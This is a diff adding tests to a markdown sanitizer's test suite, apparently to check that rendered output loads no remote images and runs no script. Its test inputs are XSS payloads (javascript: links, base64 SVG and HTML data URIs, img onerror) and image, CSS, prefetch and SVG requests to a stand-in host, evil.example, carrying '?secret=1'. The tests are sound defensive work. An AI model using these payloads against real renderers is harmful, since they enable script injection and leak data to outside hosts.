@@ -144,6 +144,15 @@ describe("markdown", () => {
     ["vbscript link", "[x](vbscript:msgbox(1))"],
     ["remote image", "![pixel](https://evil.example/p.png?secret=1)"],
     ["javascript image", "![x](javascript:alert(1))"],
+    ["reference image", "![x][r]\n\n[r]: https://evil.example/ref.png?secret=1"],
+    ["protocol-relative image", "![x](//evil.example/p.png)"],
+    ["svg data image", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"],
+    ["html data image", "![x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"],
+    ["raw img srcset", '<img srcset="https://evil.example/s 1x">'],
+    ["raw css url", '<div style="background:url(https://evil.example/c)">x</div>'],
+    ["raw link prefetch", '<link rel="prefetch" href="https://evil.example/p">'],
+    ["raw svg image", '<svg><image href="https://evil.example/i"/></svg>'],
+    ["spaced javascript link", "[x]( JaVaScRiPt:alert(1))"],
     ["html in inline code", "`<img src=x onerror=alert(1)>`"],
     ["html in fenced code", "```html\n<script>alert(1)</script><img src=x onerror=alert(1)>\n```"],
     ["html in a table cell", "| a |\n|---|\n| <img src=x onerror=alert(1)> |"],
@@ -161,6 +170,27 @@ describe("markdown", () => {
       }
     }
     expect(out).not.toMatch(/<(img|script|iframe)\b/i);
+  });
+
+  it("loads no remote image: a link naming its host stands in, to open on a click", () => {
+    for (const md of [
+      "![pixel](https://evil.example/p.png?secret=1)",
+      '![pixel](https://evil.example/p.png?secret=1 "title")',
+      "![pixel][r]\n\n[r]: https://evil.example/p.png?secret=1",
+    ]) {
+      const out = html(md);
+      expect(out, md).not.toMatch(/<img\b/i);
+      expect(out, md).toContain(
+        '<a href="https://evil.example/p.png?secret=1" target="_blank" rel="noopener noreferrer">[image: pixel · evil.example]</a>',
+      );
+    }
+  });
+
+  it("shows a data: raster inline (no request) and nothing else as an image", () => {
+    const png = "data:image/png;base64,iVBORw0KGgo=";
+    expect(html(`![dot](${png})`)).toMatch(new RegExp(`<img src="${png}" alt="dot" class="[^"]*"/>`));
+    expect(html("![x](data:image/svg+xml;base64,PHN2Zz4=)")).not.toContain("<img");
+    expect(html('![x](data:image/png;base64,AA"onerror=alert(1))')).not.toContain("<img");
   });
 
   it("shows raw HTML and unsafe link targets as text", () => {
